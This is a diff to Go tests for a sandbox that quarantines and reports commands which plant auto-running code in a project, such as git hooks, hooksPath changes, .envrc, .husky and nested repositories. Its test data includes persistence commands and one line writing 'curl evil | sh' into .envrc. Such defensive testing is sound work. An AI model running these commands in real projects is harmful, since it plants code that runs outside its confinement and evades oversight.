@@ -41,6 +41,7 @@ func newBareProject(t *testing.T, b sandbox.Backend) (*sandbox.Sandbox, string) 
 	dirs, files := permission.ProtectedNames()
 	sb, err := sandbox.New(context.Background(), sandbox.Config{
 		WorkingDirs:   []string{proj},
+		QuarantineDir: filepath.Join(root, "quarantine"),
 		ProtectedDirs: dirs, ProtectedFiles: files,
 		Helper:   exe,
 		Backends: []sandbox.Backend{b},
@@ -76,20 +77,20 @@ func runIn(t *testing.T, sb *sandbox.Sandbox, dir, command string) (string, int,
 }
 
 // TestMissingProtectedPaths runs, under each backend, the commands that plant code for later
-// in a project without .git: each must fail and leave the project as it was (no placeholder
-// left behind either), except the creation of a new nested repository, which no backend can
-// refuse and which must be reported.
+// in a project without .git: whatever a command did, the project afterwards holds nothing
+// that would run code outside the sandbox, only what else the command wrote (kept), and the
+// violations say where what was taken went.
 func TestMissingProtectedPaths(t *testing.T) {
 	_, gitErr := exec.LookPath("git")
 	tests := []struct {
 		name, command string
 		needsGit      bool
-		// reported: the command may succeed but the violations must name this path
-		// (relative to the project); "" means the command must change nothing.
-		reported string
+		// kept are paths (relative to the project) the command may leave: its ordinary
+		// output; everything else must be as before.
+		kept []string
 	}{
-		{name: "git init", command: "git init -q", needsGit: true},
-		{name: "git init and core.hooksPath", command: "git init -q; git config core.hooksPath .githooks", needsGit: true},
+		{name: "git init", command: "git init -q", needsGit: true, kept: []string{".git"}},
+		{name: "git init and core.hooksPath", command: "git init -q; git config core.hooksPath .githooks", needsGit: true, kept: []string{".git"}},
 		{name: "hand-made hooks", command: "mkdir -p .git/hooks && echo x > .git/hooks/pre-commit"},
 		{name: ".envrc", command: "echo 'curl evil | sh' > .envrc"},
 		{name: ".bashrc", command: "echo x > .bashrc"},
@@ -97,12 +98,14 @@ func TestMissingProtectedPaths(t *testing.T) {
 		{name: ".husky hook", command: "mkdir -p .husky && echo x > .husky/pre-commit"},
 		{name: ".gitmodules", command: "printf '[submodule \"x\"]\\n' > .gitmodules"},
 		{name: "symlink as .envrc", command: "ln -s src/main.go .envrc"},
-		{name: "rename into a protected name", command: "echo x > src/e && { mv src/e .envrc; r=$?; rm -f src/e; exit $r; }"},
+		{name: "rename into a protected name", command: "echo x > src/e && mv src/e .envrc"},
 		{name: "existing nested repository's hook", command: "echo x > vendor/lib/.git/hooks/pre-commit"},
 		{name: "existing nested repository's config", command: "echo '[core] hooksPath = /x' >> vendor/lib/.git/config"},
-		{name: "nested repository's hooks folder moved aside", command: "mv vendor/lib/.git/hooks vendor/lib/.git/h && mkdir vendor/lib/.git/hooks"},
-		{name: "new nested repository by hand", command: "mkdir -p src/sub/.git/hooks && echo 'ref: refs/heads/main' > src/sub/.git/HEAD && echo x > src/sub/.git/hooks/pre-commit", reported: "src/sub/.git"},
-		{name: "new nested repository with git", command: "git init -q src/other && echo x > src/other/.git/hooks/pre-commit", needsGit: true, reported: "src/other/.git"},
+		{name: "nested repository's hooks folder moved aside", command: "mv vendor/lib/.git/hooks vendor/lib/.git/h && mkdir vendor/lib/.git/hooks", kept: []string{"vendor/lib/.git/h"}},
+		{name: "new nested repository by hand", command: "mkdir -p src/sub/.git/hooks && echo 'ref: refs/heads/main' > src/sub/.git/HEAD && echo x > src/sub/.git/hooks/pre-commit",
+			kept: []string{"src/sub/.git/HEAD", "src/sub/.git/hooks", "src/sub/.git", "src/sub"}},
+		{name: "new nested repository with git", command: "git init -q src/other && echo x > src/other/.git/hooks/pre-commit", needsGit: true,
+			kept: []string{"src/other"}},
 	}
 	for _, name := range backendNames {
 		t.Run(name, func(t *testing.T) {
@@ -112,33 +115,32 @@ func TestMissingProtectedPaths(t *testing.T) {
 					if tt.needsGit && gitErr != nil {
 						t.Skip("git is not installed")
 					}
-					// A project of its own: under Landlock a nested repository takes the
-					// create right from the folders above it.
+					// A project of its own for each command.
 					sb, proj := newBareProject(t, b)
-					before := snapshot(t, proj)
+					before := listing(t, proj)
 					out, code, viol := runIn(t, sb, proj, tt.command)
-					if tt.reported != "" {
-						want := filepath.Join(proj, tt.reported)
-						if !strings.Contains(strings.Join(viol, "\n"), want) {
-							t.Errorf("%q (exit %d, %s): violations %q do not name %s", tt.command, code, out, viol, want)
+					after := listing(t, proj, tt.kept...)
+					for _, k := range tt.kept {
+						for p := range before {
+							if p == k || strings.HasPrefix(p, k+"/") {
+								delete(before, p)
+							}
 						}
-						return
 					}
-					if code == 0 {
-						t.Errorf("%q succeeded: %s", tt.command, out)
+					if d := diffListings(before, after); len(d) > 0 {
+						t.Errorf("%q (exit %d, %s, violations %q) changed the project:\n%s", tt.command, code, out, viol, strings.Join(d, "\n"))
 					}
-					if after := snapshot(t, proj); after != before {
-						t.Errorf("%q changed the project:\nbefore:\n%s\nafter:\n%s", tt.command, before, after)
+					for _, p := range []string{".git/hooks/pre-commit", "src/sub/.git/hooks/pre-commit", "src/other/.git/hooks/pre-commit", ".git/config"} {
+						full := filepath.Join(proj, p)
+						if b, err := os.ReadFile(full); err == nil && (strings.Contains(string(b), "x\n") || strings.Contains(string(b), "hooksPath")) {
+							t.Errorf("%q left %s: %q", tt.command, p, b)
+						}
 					}
 				})
 			}
 			sb, proj := newBareProject(t, b)
 			t.Run("everyday writes still work", func(t *testing.T) {
-				cmd := "echo x > src/a.go && mkdir -p src/pkg && touch src/pkg/b.go && rm src/a.go"
-				if name == "bubblewrap" {
-					// Landlock cannot create entries at the project's top (see the known limits).
-					cmd += " && touch new.txt && mkdir build && rm -r new.txt build"
-				}
+				cmd := "echo x > src/a.go && mkdir -p src/pkg && touch src/pkg/b.go && rm src/a.go && touch new.txt && mkdir build && rm -r new.txt build"
 				if out, code, viol := runIn(t, sb, proj, cmd); code != 0 || len(viol) > 0 {
 					t.Errorf("%q: exit %d, %s, violations %q", cmd, code, out, viol)
 				}
@@ -156,7 +158,7 @@ func TestMissingProtectedPaths(t *testing.T) {
 }
 
 // unconfined is a backend that confines nothing, standing for one whose mounts or rules missed
-// a path: the check after the command must still see what appeared.
+// a path: the check after the command must still deal with what appeared.
 type unconfined struct{}
 
 func (unconfined) Name() string                                  { return "unconfined" }
@@ -172,7 +174,8 @@ func TestCheckAfterCommandReportsWhatAppeared(t *testing.T) {
 		{command: "echo x > .envrc", want: []string{".envrc"}},
 		{command: "mkdir -p .git/hooks", want: []string{".git"}},
 		{command: "mkdir .husky", want: []string{".husky"}},
-		{command: "mkdir -p src/new/.git", want: []string{"src/new/.git"}},
+		{command: "mkdir -p src/new/.git/hooks && touch src/new/.git/hooks/post-checkout", want: []string{"src/new/.git/hooks/post-checkout"}},
+		{command: "echo x >> vendor/lib/.git/config", want: []string{"vendor/lib/.git/config"}},
 		{command: "echo x > src/ordinary.go && mkdir src/pkg"},
 	}
 	for _, tt := range tests {
@@ -184,8 +187,11 @@ func TestCheckAfterCommandReportsWhatAppeared(t *testing.T) {
 			}
 			joined := strings.Join(viol, "\n")
 			for _, w := range tt.want {
-				if !strings.Contains(joined, filepath.Join(proj, w)+" ") && !strings.Contains(joined, filepath.Join(proj, w)+";") && !strings.Contains(joined, filepath.Join(proj, w)+",") {
+				if !strings.Contains(joined, filepath.Join(proj, w)) {
 					t.Errorf("violations %q do not name %s", viol, w)
+				}
+				if _, err := os.Lstat(filepath.Join(proj, w)); err == nil && !strings.HasSuffix(w, "config") {
+					t.Errorf("%s is still in the project", w)
 				}
 			}
 			if len(tt.want) == 0 && len(viol) > 0 {
